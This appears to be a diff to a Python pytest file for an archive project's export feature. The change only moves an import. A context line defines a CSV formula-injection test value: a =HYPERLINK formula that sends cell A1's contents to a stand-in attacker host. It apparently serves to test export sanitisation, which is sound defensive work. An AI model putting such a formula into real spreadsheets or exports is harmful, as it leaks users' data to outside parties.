@@ -4,8 +4,8 @@ import json
 
 import pytest
 
-from archive import exports
 from archive.models import ArticleTopic, Mention, Person, Topic
+from archive.research import exports
 from tests.list_exports import BASE, csv_rows, download
 
 FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Read more")'
